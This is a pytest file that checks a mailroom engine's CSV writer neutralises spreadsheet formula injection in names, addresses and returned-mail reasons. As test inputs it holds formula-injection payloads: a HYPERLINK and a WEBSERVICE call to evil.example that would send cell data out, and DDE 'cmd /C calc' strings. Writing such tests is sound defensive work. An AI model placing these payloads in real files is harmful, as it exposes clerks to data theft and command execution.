"""Attack: a formula in a name, a street, a city or a returned-mail reason reaches the mailroom's CSV files and
runs when a clerk opens the file in a spreadsheet (`=HYPERLINK(…)`). Every CSV the engine writes goes through
correspondence/csv_out.py, which writes such a cell as text (a leading `'`)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from test_mailroom_print_files import AFFILIATES, fund_profile, mailroom_templates

from correspondence import csv_out, schema
from correspondence.config import Settings
from correspondence.importing import import_dir
from correspondence.kinds import case_lists
from correspondence.mailroom import verify as mailroom_verify
from correspondence.store import connect
from scheduler.night import run_night

NIGHT = date(2026, 11, 22)
STRUCTURED = "+++123/4567/89012+++"


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),  # starts like a number, is a formula
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    (STRUCTURED, "'" + STRUCTURED),
    ("+32 2 123 45 67", "'+32 2 123 45 67"),
    # untouched: numbers (a negative amount stays a number), ordinary text, empty cells
    ("-12.50", "-12.50"),
    ("-3", "-3"),
    ("-0,75", "-0,75"),
    ("12.50", "12.50"),
    ("Peeters", "Peeters"),
    ("Jean-Marie =1", "Jean-Marie =1"),  # a formula sign inside a cell is harmless
    ("", ""),
    (None, None),
    (-12.5, -12.5),
    (7, 7),
])
def test_a_cell_a_spreadsheet_reads_as_a_formula_is_written_as_text(value: object, written: object) -> None:
    assert csv_out.cell(value) == written


def test_a_structured_communication_stays_readable() -> None:
    data = csv_out.encode([["L1", STRUCTURED, "-12.50"]], ("letter_id", "reference", "amount"))
    [row] = csv.DictReader(io.StringIO(data.decode()))
    # The spreadsheet shows a `'`-prefixed cell without its `'`: what the clerk reads is the communication.
    assert row["reference"] == "'" + STRUCTURED and row["reference"][1:] == STRUCTURED
    assert row["amount"] == "-12.50"  # a number, summed as one


def _cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(path.open(encoding="utf-8", newline="")) for cell in row]


def _dangerous(cell: str) -> bool:
    return cell.startswith(csv_out.FORMULA_START) and csv_out.cell(cell) != cell


HOSTILE = [  # Q3 unpaid: each gets a registered reminder, so its name and address reach registered.csv
    ("A0000006", '=HYPERLINK("http://evil.example","x")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "2000", "=1+1"),
    ("A0000007", "-2+3+cmd", "Lambert", "=WEBSERVICE(\"http://evil.example\")", "4000", "@Liège"),
]


def test_no_csv_of_a_night_holds_a_formula(settings: Settings, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    fund, templates = fund_profile(tmp_path, 1000), mailroom_templates(tmp_path)
    monkeypatch.setenv("CORRESPONDENCE_FUND", str(fund))
    monkeypatch.setenv("CORRESPONDENCE_TEMPLATES", str(templates))
    settings = replace(settings, fund_file=fund, templates_dir=templates)
    folder = tmp_path / "fund"
    folder.mkdir()
    numbers = ("71050860797", "71050860896")  # one national number each: a second holder is refused
    rows = [f'{a},{n},"{f.replace(chr(34), chr(34) * 2)}",{l},"{s.replace(chr(34), chr(34) * 2)}",1,,'
            f"{p},{c},BE,nl,main,2010-01-01," for (a, f, l, s, p, c), n in zip(HOSTILE, numbers, strict=True)]
    (folder / "affiliates.csv").write_text("\n".join([AFFILIATES, *rows]) + "\n", encoding="utf-8")
    (folder / "contributions.csv").write_text(
        "contribution_id,affiliate_id,year,quarter,kind,amount,fee,due_date\n"
        + "".join(f"C{n},{a[0]},2026,3,provisional,890.42,27.16,2026-09-30\n" for n, a in enumerate(HOSTILE)),
        encoding="utf-8")
    reports = import_dir(connect(settings.db_url), folder)
    assert not any(r.errors for r in reports), [r.errors for r in reports]
    result = run_night(settings, NIGHT)
    assert result.status == "complete" and result.letters == len(HOSTILE), result.summary
    night = settings.output_dir / NIGHT.isoformat()
    written = sorted(night.glob("*.csv"))
    assert {"registered.csv", "manifest.csv", "files.csv"} <= {p.name for p in written}
    registered = _cells(night / "registered.csv")
    assert any(c.startswith("'=HYPERLINK(") for c in registered), registered  # the name is there, as text
    assert any(c.startswith("'=1+1") or c == "'=1+1" for c in registered), registered
    for path in written:
        assert not [c for c in _cells(path) if _dangerous(c)], path
    with connect(settings.db_url).connect() as connection:  # the manifest still reads back as the journal's
        assert mailroom_verify.verify(connection, settings.output_dir, settings.archive_dir, NIGHT) == []


def test_a_case_handlers_list_holds_no_formula(db_url: str) -> None:
    """call_list.csv, returned_mail.csv, heirs.csv …: every list the night writes (correspondence/kinds/case_lists.py)."""
    reason = '=HYPERLINK("http://evil.example","moved")'
    with connect(db_url).begin() as connection:
        connection.execute(schema.case_list_entries.insert(), [
            {"key": f"returned_mail:{n}", "list": "returned_mail", "run_date": NIGHT, "record": f"affiliate A{n}",
             "row": json.dumps({"affiliate_id": f"A{n}", "reason": value, "amount": "-12.50"})}
            for n, value in enumerate((reason, "@cmd", "verhuisd"))])
        files = case_lists.files(connection, NIGHT)
    rows = list(csv.DictReader(io.StringIO(files["returned_mail.csv"].decode())))
    assert [r["reason"] for r in rows] == ["'" + reason, "'@cmd", "verhuisd"]
    assert {r["amount"] for r in rows} == {"-12.50"}


def test_stats_csv_holds_no_formula(sqlite_url: str, tmp_path: Path) -> None:
    """A letter type is a folder name in letter_templates/: `=1+1` reaches `stats --csv` as text."""
    with connect(sqlite_url).begin() as connection:
        connection.execute(schema.runs.insert().values(run_date=NIGHT, status="complete", attempts=1,
                                                          started_at=datetime.now(UTC)))
        connection.execute(schema.letters.insert().values(
            letter_id="20261122-000001", event_key="x", run_date=NIGHT, letter_type="=1+1", recipient_type="affiliate",
            recipient_id="A1", language="nl", mail_class="ordinary", postcode="1000", sort_name="x",
            status="batched", template_hash="0" * 64, context="{}"))
    out = subprocess.run([sys.executable, "-m", "scheduler.cli", "stats", "--year", "2026", "--csv"],
                         env={**os.environ, "CORRESPONDENCE_DB": sqlite_url}, cwd=tmp_path,
                         capture_output=True, text=True, check=False)
    assert out.returncode == 0, out.stderr
    rows = list(csv.reader(io.StringIO(out.stdout)))
    assert rows[0] == ["period", "section", "key", "value"]
    assert ["2026", "letters by type", "'=1+1", "1"] in rows
    assert not [c for row in rows for c in row if _dangerous(c)]
